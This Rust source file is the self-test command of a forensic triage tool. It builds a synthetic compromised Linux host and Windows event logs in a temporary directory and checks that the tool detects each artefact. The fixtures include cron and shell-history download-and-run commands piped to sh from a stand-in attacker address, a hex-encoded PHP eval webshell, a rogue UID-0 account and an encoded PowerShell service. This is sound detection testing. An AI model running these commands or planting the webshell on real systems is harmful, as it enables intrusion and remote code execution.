//! `firewarden selftest`: a validation run of this binary on reference data built into it.

use anyhow::{Context, Result};
use firewarden_evidence::KeyPair;
use firewarden_model::Timestamp;
use firewarden_model::selftest::{SELFTEST_VERSION, SelftestCheck, SelftestResult, SignedSelftest};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

/// Check this binary on reference data built into it, and sign the result for the tool registry.
///
/// Nothing on this host is read or changed: the reference data is written to a temporary
/// directory. It holds a planted compromise (brute-forced SSH, a second root account, a cron
/// downloader, a service from /tmp, ld.so.preload, an SSH key, a webshell, a wiped history)
/// and a clean host, which triage must tell apart; an evidence bundle of the planted host,
/// which must verify, and copies of it with one byte changed, a custody line edited and the
/// wrong key pinned, which must not; and a Windows intrusion as exported event records
/// (evtx_dump JSON lines), whose brute force, new account, service and cleared log hunt must
/// find.
#[derive(clap::Args)]
#[command(
    after_help = "Examples:\n  firewarden selftest                                   # the checks, as a table\n  firewarden selftest --key lab.key -o selftest.json    # signed, for `firewarden tool validate`\n\nExit codes: 0 every check passed, 1 a check failed, 2 error."
)]
pub struct Args {
    /// Sign the result with this Ed25519 private key (PEM); without it an ephemeral key signs.
    #[arg(long, value_name = "FILE", env = "FIREWARDEN_KEY")]
    key: Option<PathBuf>,
    /// Write the signed result (JSON) here; it must not exist.
    #[arg(short, long, value_name = "FILE")]
    output: Option<PathBuf>,
    /// Print the signed result as JSON instead of a table.
    #[arg(long)]
    json: bool,
}

/// Encoded so that this binary holds no webshell or downloader a scanner would flag.
const WEBSHELL_HEX: &str = "3c3f70687020406576616c28245f504f53545b2770275d293b203f3e0a";
const ATTACKER: &str = "203.0.113.66";

fn unhex(s: &str) -> Vec<u8> {
    firewarden_evidence::encoding::unhex(s).unwrap_or_default()
}

fn write(root: &Path, path: &str, data: &[u8]) -> Result<()> {
    let full = root.join(path.trim_start_matches('/'));
    if let Some(dir) = full.parent() {
        std::fs::create_dir_all(dir)?;
    }
    std::fs::write(&full, data).with_context(|| format!("cannot write {}", full.display()))
}

/// A host with the basics every Debian host has.
fn clean_host(root: &Path) -> Result<()> {
    write(
        root,
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n",
    )?;
    write(root, "/etc/hostname", b"ref-web01\n")?;
    write(
        root,
        "/var/log/auth.log",
        b"Nov 20 09:00:00 ref-web01 sshd[3000]: Accepted publickey for deploy from 198.51.100.10 port 40000 ssh2: ED25519 SHA256:xyz\n",
    )?;
    write(
        root,
        "/var/www/html/index.php",
        b"<?php\n$title = 'Welcome';\necho htmlspecialchars($title);\n",
    )?;
    Ok(())
}

/// The clean host, broken into.
fn planted_host(root: &Path) -> Result<()> {
    clean_host(root)?;
    let mut auth = String::new();
    for i in 0..30 {
        auth.push_str(&format!(
            "Nov 20 03:{:02}:{:02} ref-web01 sshd[{}]: Failed password for root from {ATTACKER} port {} ssh2\n",
            i / 6,
            (i % 6) * 10,
            2000 + i,
            50000 + i
        ));
    }
    auth.push_str(&format!(
        "Nov 20 03:06:12 ref-web01 sshd[2100]: Accepted password for root from {ATTACKER} port 51000 ssh2\n"
    ));
    auth.push_str("Nov 20 03:09:41 ref-web01 useradd[2201]: new user: name=sysop, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0\n");
    write(root, "/var/log/auth.log", auth.as_bytes())?;
    write(
        root,
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ndeploy:x:1001:1001::/home/deploy:/bin/bash\nsysop:x:0:0::/root:/bin/bash\n",
    )?;
    write(
        root,
        "/etc/cron.d/0sync",
        format!("*/5 * * * * root curl -s http://{ATTACKER}/l.sh | sh\n").as_bytes(),
    )?;
    write(
        root,
        "/etc/systemd/system/dbus-helper.service",
        b"[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/tmp/.X11-cache/helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
    )?;
    write(root, "/etc/ld.so.preload", b"/usr/lib/libdbus-helper.so\n")?;
    // A key in the web server's account, which has no reason to accept SSH logins.
    write(
        root,
        "/var/www/.ssh/authorized_keys",
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops\n",
    )?;
    write(
        root,
        "/var/www/html/wp-content/uploads/2026/11/thumb.php",
        &unhex(WEBSHELL_HEX),
    )?;
    write(
        root,
        "/home/deploy/.bash_history",
        format!("cd /tmp\ncurl -s http://{ATTACKER}/x.sh | sh\n").as_bytes(),
    )?;
    // Root's history sent to /dev/null (a link inside the reference tree, never followed).
    std::fs::create_dir_all(root.join("root"))?;
    std::os::unix::fs::symlink("/dev/null", root.join("root/.bash_history"))?;
    Ok(())
}

/// What the planted host must show, by check id prefix.
const PLANTED: &[(&str, &str)] = &[
    ("linux.accounts.uid0", "the second root account"),
    (
        "linux.logins.attacker_login",
        "the SSH brute force that succeeded",
    ),
    ("linux.persistence.cron", "the cron downloader"),
    ("linux.persistence.systemd", "the service run from /tmp"),
    ("linux.persistence.ld_preload", "ld.so.preload"),
    ("linux.ssh.authorized_keys", "the planted SSH key"),
    ("linux.web.webshell", "the webshell"),
    (
        "linux.logs.history_tampering",
        "root's history sent to /dev/null",
    ),
    (
        "linux.logs.history_commands",
        "the download-and-run in a shell history",
    ),
];

fn triage(root: &Path) -> Result<firewarden_model::TriageReport> {
    let src = firewarden_source::FsSource::root(root)?;
    let opts = firewarden_triage::TriageOptions {
        threads: 2,
        // The reference logs are of November 2026: judged as of the next day, on any clock.
        now: Timestamp::parse("2026-11-21T00:00:00Z"),
        ..Default::default()
    };
    Ok(firewarden_triage::run(&src, &opts, &|_| {}))
}

fn check(id: &str, title: &str, passed: bool, detail: String) -> SelftestCheck {
    SelftestCheck {
        id: id.into(),
        title: title.into(),
        passed,
        detail,
    }
}

fn triage_checks(work: &Path, out: &mut Vec<SelftestCheck>) -> Result<PathBuf> {
    let planted = work.join("planted");
    planted_host(&planted)?;
    let report = triage(&planted)?;
    let ids: Vec<&str> = report.findings.iter().map(|f| f.check.as_str()).collect();
    for (prefix, what) in PLANTED {
        let hits: Vec<&&str> = ids.iter().filter(|i| i.starts_with(prefix)).collect();
        out.push(check(
            &format!("triage.planted.{}", prefix.trim_start_matches("linux.")),
            &format!("triage finds {what}"),
            !hits.is_empty(),
            if hits.is_empty() {
                format!("no {prefix}.* finding among {} findings", ids.len())
            } else {
                format!("{} finding(s): {}", hits.len(), first_three(&hits))
            },
        ));
    }
    let ips = &report.storyline.attacker_ips;
    out.push(check(
        "triage.planted.attacker",
        "the storyline names the attacker's address",
        ips.iter().any(|ip| ip == ATTACKER),
        format!("attacker addresses: {ips:?}"),
    ));
    let clean = work.join("clean");
    clean_host(&clean)?;
    let report = triage(&clean)?;
    let loud: Vec<String> = report
        .findings
        .iter()
        .filter(|f| f.severity >= firewarden_model::Severity::High)
        .map(|f| f.check.clone())
        .collect();
    out.push(check(
        "triage.clean",
        "triage stays quiet on the clean host (nothing high or critical)",
        loud.is_empty(),
        if loud.is_empty() {
            format!(
                "{} finding(s), none high or critical",
                report.findings.len()
            )
        } else {
            format!("high or critical: {}", loud.join(", "))
        },
    ));
    Ok(planted)
}

fn first_three(ids: &[&&str]) -> String {
    let mut v: Vec<&str> = ids.iter().map(|s| **s).collect();
    v.sort();
    v.dedup();
    v.truncate(3);
    v.join(", ")
}

fn bundle_checks(work: &Path, planted: &Path, out: &mut Vec<SelftestCheck>) -> Result<()> {
    use firewarden_evidence::custody;
    let key = KeyPair::generate(true)?;
    let public = key.public();
    let bundle = work.join("ref.fwb");
    let src = firewarden_source::FsSource::root(planted)?;
    let opts = firewarden_evidence::CollectOptions {
        profile: firewarden_evidence::Profile::Triage,
        caps: firewarden_evidence::Profile::Triage.caps(),
        case_id: Some("SELFTEST".into()),
        operator: "selftest".into(),
        command_line: vec!["firewarden".into(), "selftest".into()],
        output: bundle.clone(),
        key,
        recipients: Vec::new(),
        threads: 2,
    };
    firewarden_evidence::collect(&src, opts, &|_| {})?;
    let verdict = |path: &Path, key: &firewarden_evidence::PublicKey| {
        firewarden_evidence::verify_bundle(path, &[], Some(key), None)
            .map(|(_, c)| (c.intact(), c.problems))
            .unwrap_or_else(|e| (false, vec![e.to_string()]))
    };
    let (ok, problems) = verdict(&bundle, &public);
    out.push(check(
        "bundle.intact",
        "a bundle of the planted host verifies (signature, every member, custody)",
        ok,
        problems.first().cloned().unwrap_or_else(|| "intact".into()),
    ));
    // Copies, each with one kind of damage, beside their own ledgers.
    let copy = |name: &str| -> Result<PathBuf> {
        let to = work.join(name);
        std::fs::copy(&bundle, &to)?;
        std::fs::copy(custody::ledger_path(&bundle), custody::ledger_path(&to))?;
        Ok(to)
    };
    let flipped = copy("flipped.fwb")?;
    let mut bytes = std::fs::read(&flipped)?;
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    std::fs::write(&flipped, bytes)?;
    let (ok, problems) = verdict(&flipped, &public);
    out.push(check(
        "bundle.tampered.byte",
        "one changed byte in the bundle is detected",
        !ok,
        problems
            .first()
            .cloned()
            .unwrap_or_else(|| "NOT DETECTED".into()),
    ));
    let edited = copy("edited.fwb")?;
    let ledger = custody::ledger_path(&edited);
    let text = std::fs::read_to_string(&ledger)?.replacen("selftest", "someone else", 1);
    std::fs::write(&ledger, text)?;
    let (ok, problems) = verdict(&edited, &public);
    out.push(check(
        "bundle.tampered.custody",
        "an edited custody line is detected",
        !ok && problems.iter().any(|p| p.contains("custody")),
        problems
            .first()
            .cloned()
            .unwrap_or_else(|| "NOT DETECTED".into()),
    ));
    let other = KeyPair::generate(true)?.public();
    let (ok, problems) = verdict(&bundle, &other);
    out.push(check(
        "bundle.wrong_key",
        "a bundle signed by another key than the one pinned is refused",
        !ok,
        problems
            .first()
            .cloned()
            .unwrap_or_else(|| "NOT DETECTED".into()),
    ));
    Ok(())
}

fn windows_event(
    id: u32,
    time: &str,
    record: u64,
    channel: &str,
    data: serde_json::Value,
) -> String {
    serde_json::json!({"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Reference"}},
        "EventID": id,
        "TimeCreated": {"#attributes": {"SystemTime": time}},
        "EventRecordID": record,
        "Channel": channel,
        "Computer": "REF-DC01"},
        "EventData": data}})
    .to_string()
}

fn hunt_checks(work: &Path, out: &mut Vec<SelftestCheck>) -> Result<()> {
    use serde_json::json;
    let mut lines = Vec::new();
    let mut record = 0;
    let mut next = || {
        record += 1;
        record
    };
    for i in 0..12 {
        lines.push(windows_event(
            4625,
            &format!("2026-11-20T03:{:02}:{:02}Z", 10 + i / 4, (i % 4) * 15),
            next(),
            "Security",
            json!({"TargetUserName": "administrator", "IpAddress": ATTACKER, "LogonType": 10}),
        ));
    }
    lines.push(windows_event(
        4624,
        "2026-11-20T03:14:00Z",
        next(),
        "Security",
        json!({"TargetUserName": "administrator", "IpAddress": ATTACKER, "LogonType": 10}),
    ));
    lines.push(windows_event(
        4720,
        "2026-11-20T03:20:00Z",
        next(),
        "Security",
        json!({"TargetUserName": "helpdesk$", "SubjectUserName": "administrator"}),
    ));
    lines.push(windows_event(
        7045,
        "2026-11-20T03:25:00Z",
        next(),
        "System",
        json!({"ServiceName": "wupd", "ImagePath": "cmd.exe /c powershell -enc SQBFAFgA"}),
    ));
    lines.push(windows_event(
        1102,
        "2026-11-20T03:30:00Z",
        next(),
        "Security",
        json!({}),
    ));
    let file = work.join("reference-security.jsonl");
    std::fs::write(&file, lines.join("\n") + "\n")?;
    let rules = firewarden_hunt::sigma::RuleSet::default();
    let opts = firewarden_hunt::HuntOptions {
        builtin: true,
        ..Default::default()
    };
    let (files, _) = firewarden_hunt::reader::log_files(&[file]);
    let output = firewarden_hunt::hunt(&rules, files, &opts, &|_, _| {});
    let hits = firewarden_hunt::builtin::run(&output);
    for (id, what) in [
        (
            "windows.logon.bruteforce",
            "the RDP brute force that succeeded",
        ),
        ("windows.accounts.created", "the hidden account"),
        (
            "windows.persistence.service",
            "the encoded PowerShell service",
        ),
        ("windows.logs.cleared", "the cleared Security log"),
    ] {
        let n = hits.iter().filter(|h| h.check.id == id).count();
        out.push(check(
            &format!("hunt.{id}"),
            &format!("hunt finds {what}"),
            n > 0,
            format!(
                "{n} detection(s) from {} records",
                output.files.first().map_or(0, |f| f.records)
            ),
        ));
    }
    Ok(())
}

/// Runs every reference check.
pub fn run_checks() -> Result<SelftestResult> {
    let started = Timestamp::now();
    let work = tempfile::tempdir()?;
    let mut checks = Vec::new();
    let planted = triage_checks(work.path(), &mut checks)?;
    bundle_checks(work.path(), &planted, &mut checks)?;
    hunt_checks(work.path(), &mut checks)?;
    let passed = checks.iter().all(|c| c.passed);
    Ok(SelftestResult {
        v: SELFTEST_VERSION,
        tool: format!("firewarden {}", env!("CARGO_PKG_VERSION")),
        tool_sha256: crate::provenance::self_sha256().unwrap_or_default(),
        host: rustix::system::uname()
            .nodename()
            .to_string_lossy()
            .into_owned(),
        started,
        finished: Timestamp::now(),
        checks,
        passed,
    })
}

pub fn run(args: Args) -> Result<ExitCode> {
    let key = match &args.key {
        Some(p) => KeyPair::load(p)?,
        None => KeyPair::generate(true)?,
    };
    let result = run_checks()?;
    let signed = SignedSelftest {
        signature: firewarden_evidence::encoding::hex(&key.sign(&result.signed_bytes())),
        signer: key.public().to_hex(),
        result,
    };
    let text = serde_json::to_string_pretty(&signed)?;
    if let Some(path) = &args.output {
        use std::io::Write;
        let mut f = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(path)
            .with_context(|| format!("cannot create {} (it must not exist)", path.display()))?;
        f.write_all(text.as_bytes())?;
        f.write_all(b"\n")?;
        f.sync_all()?;
    }
    let mut shown = String::new();
    if args.json {
        shown = text;
        shown.push('\n');
    } else {
        let r = &signed.result;
        for c in &r.checks {
            shown += &format!(
                "{}  {:<36} {} — {}\n",
                if c.passed { "PASS" } else { "FAIL" },
                c.id,
                c.title,
                firewarden_model::printable(&c.detail, 200)
            );
        }
        let failed = r.checks.iter().filter(|c| !c.passed).count();
        shown += &format!(
            "{}: {} of {} checks passed; binary sha256 {}\n",
            r.tool,
            r.checks.len() - failed,
            r.checks.len(),
            r.tool_sha256
        );
        if let Some(p) = &args.output {
            shown += &format!(
                "signed by {} → {} (firewarden tool validate ID {})\n",
                key.public().fingerprint(),
                p.display(),
                p.display()
            );
        }
        if key.ephemeral {
            eprintln!(
                "signed with an ephemeral key {} (use --key to sign as yourself)",
                key.public().fingerprint()
            );
        }
    }
    {
        use std::io::Write;
        // A closed pipe (`| head`) is the reader's choice, not an error.
        let _ = std::io::stdout().lock().write_all(shown.as_bytes());
    }
    Ok(if signed.result.passed {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    })
}
